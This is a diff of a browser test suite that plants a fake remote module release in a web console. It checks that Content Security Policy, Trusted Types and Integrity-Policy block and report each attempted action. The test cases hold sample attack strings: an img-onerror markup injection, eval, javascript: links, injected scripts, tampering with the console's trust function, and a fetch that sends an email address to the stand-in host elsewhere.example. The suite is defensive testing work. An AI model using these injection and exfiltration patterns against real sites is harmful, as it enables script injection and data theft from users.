@@ -1,14 +1,38 @@
 import { createHash } from 'node:crypto';
 import { consoleUnderTest } from '@console/testing/browser';
+import bcd from '@mdn/browser-compat-data';
 import type { BrowserContext } from 'playwright-core';
 
-const { open } = consoleUnderTest();
+const violations: string[] = [];
+const waiting = new Set<() => void>();
+const { open } = consoleUnderTest('composed', {
+  onViolation: (line) => {
+    violations.push(line);
+    for (const look of waiting) look();
+  },
+});
+
+/** Until a line like this was written for the console: the browser reports when it has time. */
+function reported(line: RegExp): Promise<void> {
+  return new Promise((resolve) => {
+    const look = () => {
+      if (violations.some((one) => line.test(one))) resolve();
+    };
+    waiting.add(look);
+    look();
+  });
+}
+
+beforeEach(() => {
+  violations.length = 0;
+  waiting.clear();
+});
 
 const integrity = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`;
 
 /** What the policy says no to: a line on the console for each, and for the address that is no file an error of ours. */
 const refused =
-  /Content Security Policy|TrustedHTML|TrustedScript|no file of this console|could not|stopped/i;
+  /Content Security Policy|TrustedHTML|TrustedScript|Integrity-Policy|no file of this console|could not|stopped/i;
 
 /** A release of mf-clients, named with its own hash as a real one is, that does this as soon as it runs. */
 async function plant(context: BrowserContext, deed: string) {
@@ -16,13 +40,6 @@ async function plant(context: BrowserContext, deed: string) {
     window.outcome = (() => { try { ${deed}; return 'done'; } catch (error) { return error.name; } })();
     return Promise.resolve(() => ({}));
   } };`;
-  await context.addInitScript(() => {
-    const violated: string[] = [];
-    Object.assign(window, { violated });
-    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
-      violated.push(effectiveDirective),
-    );
-  });
   await context.route('**/remotes/mf-clients/release.json', async (route) => {
     const reply = await route.fetch();
     const released: { entry: object } = await reply.json();
@@ -32,6 +49,9 @@ async function plant(context: BrowserContext, deed: string) {
   await context.route('**/remotes/mf-clients/remoteEntry*.js', (route) =>
     route.fulfill({ body: script, contentType: 'text/javascript' }),
   );
+  await context.route('**/unhashed.01234567.js', (route) =>
+    route.fulfill({ body: 'window.ran = true', contentType: 'text/javascript' }),
+  );
   await context.route('https://elsewhere.example/**', (route) =>
     route.fulfill({ body: 'window.ran = true', contentType: 'text/javascript' }),
   );
@@ -40,19 +60,24 @@ async function plant(context: BrowserContext, deed: string) {
 const script = (set: string) =>
   `const element = document.createElement('script'); ${set}; document.head.append(element)`;
 
-const deeds: [deed: string, code: string, outcome: string, directive: string | undefined][] = [
+const unhashed = 'window.__CONSOLE_SCRIPTS__.trusted("/remotes/mf-clients/unhashed.01234567.js")';
+
+const sink = (name: string) => `require-trusted-types-for blocked=trusted-types-sink:${name}`;
+
+/** What it wants, what becomes of that where it tries, and what is reported of it: nothing where our own policy threw. */
+const deeds: [deed: string, code: string, outcome: string, reported: string | undefined][] = [
   [
     'text as markup',
     'document.body.innerHTML = "<img src=x onerror=window.ran=true>"',
     'TypeError',
-    'require-trusted-types-for',
+    sink('Element.innerHTML'),
   ],
-  ['text as code', 'eval("window.ran = true")', 'EvalError', 'require-trusted-types-for'],
+  ['text as code', 'eval("window.ran = true")', 'EvalError', sink('eval')],
   [
     'a script by its address',
     script('element.src = "https://elsewhere.example/a.js"'),
     'TypeError',
-    'require-trusted-types-for',
+    sink('HTMLScriptElement.src'),
   ],
   [
     'a script of another place by the console’s own policy',
@@ -67,46 +92,68 @@ const deeds: [deed: string, code: string, outcome: string, directive: string | u
     undefined,
   ],
   [
-    'a script of another place although its folder was allowed',
-    script(
-      'window.__CONSOLE_SCRIPTS__.allow("https://elsewhere.example/"); element.src = window.__CONSOLE_SCRIPTS__.trusted("https://elsewhere.example/a.js")',
-    ),
+    'a folder of its own for scripts',
+    'window.__CONSOLE_SCRIPTS__.takeAllow()("https://elsewhere.example/")',
+    'TypeError',
+    undefined,
+  ],
+  [
+    'another way to vouch for scripts',
+    'Object.defineProperty(window.__CONSOLE_SCRIPTS__, "trusted", { value: (address) => address })',
+    'TypeError',
+    undefined,
+  ],
+  [
+    'a script of its release without a hash',
+    script(`element.crossOrigin = "anonymous"; element.src = ${unhashed}`),
     'done',
-    'script-src-elem',
+    'integrity-policy blocked=/remotes/mf-clients/unhashed.01234567.js',
+  ],
+  [
+    'a worker of a file that nobody checked',
+    `new Worker(${unhashed})`,
+    'done',
+    'worker-src blocked=/remotes/mf-clients/unhashed.01234567.js',
   ],
   [
     'a script in the page',
     script('element.text = "window.ran = true"'),
     'TypeError',
-    'require-trusted-types-for',
+    sink('HTMLScriptElement.text'),
   ],
   [
     'a policy of its own',
     'window.trustedTypes.createPolicy("anything", { createHTML: (text) => text })',
     'TypeError',
-    'trusted-types',
+    'trusted-types blocked=trusted-types-policy',
   ],
   [
     'a second policy of the console’s name',
     'window.trustedTypes.createPolicy("console", { createScriptURL: (text) => text })',
     'TypeError',
-    'trusted-types',
+    'trusted-types blocked=trusted-types-policy',
   ],
   [
     'a style element',
     'const style = document.createElement("style"); style.append("body { display: none }"); document.head.append(style)',
     'done',
-    'style-src-elem',
+    'style-src-elem blocked=inline',
   ],
   [
     'an address that is code',
     'const link = document.createElement("a"); link.href = "javascript:window.ran = true"; document.body.append(link); link.click()',
     'done',
-    undefined,
+    'script-src-elem blocked=inline',
+  ],
+  [
+    'to send what it sees elsewhere',
+    'fetch("https://elsewhere.example/seen?email=jane.doe@example.com").catch(() => undefined)',
+    'done',
+    'connect-src blocked=https://elsewhere.example/seen',
   ],
 ];
 
-it.each(deeds)('a release that wants %s is stopped by the policy', async (_, code, outcome, directive) => {
+it.each(deeds)('a release that wants %s is stopped, and reported', async (_, code, outcome, report) => {
   const page = await open({
     path: '/dashboard/clients',
     prepare: (context) => plant(context, code),
@@ -118,14 +165,39 @@ it.each(deeds)('a release that wants %s is stopped by the policy', async (_, cod
   await page.getByRole('heading', { level: 1, name: 'OEMs' }).waitFor();
   const seen = await page.evaluate(() => ({
     outcome: Reflect.get(window, 'outcome'),
-    violated: Reflect.get(window, 'violated'),
     ran: 'ran' in window,
     shown: getComputedStyle(document.body).display,
   }));
-  expect(seen).toEqual({
-    outcome,
-    violated: directive ? expect.arrayContaining([directive]) : expect.any(Array),
-    ran: false,
-    shown: 'block',
+  expect(seen).toEqual({ outcome, ran: false, shown: 'block' });
+  if (report) await reported(new RegExp(`^violation directive=${report.replaceAll('.', '\\.')} `));
+  // Whose release it was: the name of its file holds the hash of its content.
+  for (const line of violations) expect(line).toMatch(/ release=(mf-clients\/[a-zA-Z.]+[0-9a-f]{8}\.js|-)$/);
+  if (!report) expect(violations).toEqual([]);
+});
+
+it('of what a browser lets pages ask for, nothing is left open but what is meant to be', async () => {
+  const page = await open();
+  const left = await page.evaluate(() => {
+    const { featurePolicy } = document as Document & { featurePolicy: { allowedFeatures(): string[] } };
+    return featurePolicy.allowedFeatures().filter((feature) => !feature.startsWith('ch-'));
   });
+  // The console's own, what is none of a page's to ask for, and servers of the company's own network.
+  expect(left.sort()).toEqual([
+    'clipboard-write',
+    'cross-origin-isolated',
+    'local-network',
+    'local-network-access',
+    'loopback-network',
+    'serial',
+  ]);
+});
+
+it('no browser that ships can demand hashes of style sheets: the day one can, Integrity-Policy names them', () => {
+  const known =
+    bcd.http.headers?.['Integrity-Policy']?.['blocked-destinations_style']?.__compat?.support ?? {};
+  const ships = Object.values(known)
+    .flatMap((support) => support ?? [])
+    .filter(({ version_added, flags }) => version_added !== false && !flags);
+  expect(Object.keys(known)).toContain('chrome');
+  expect(ships).toEqual([]);
 });
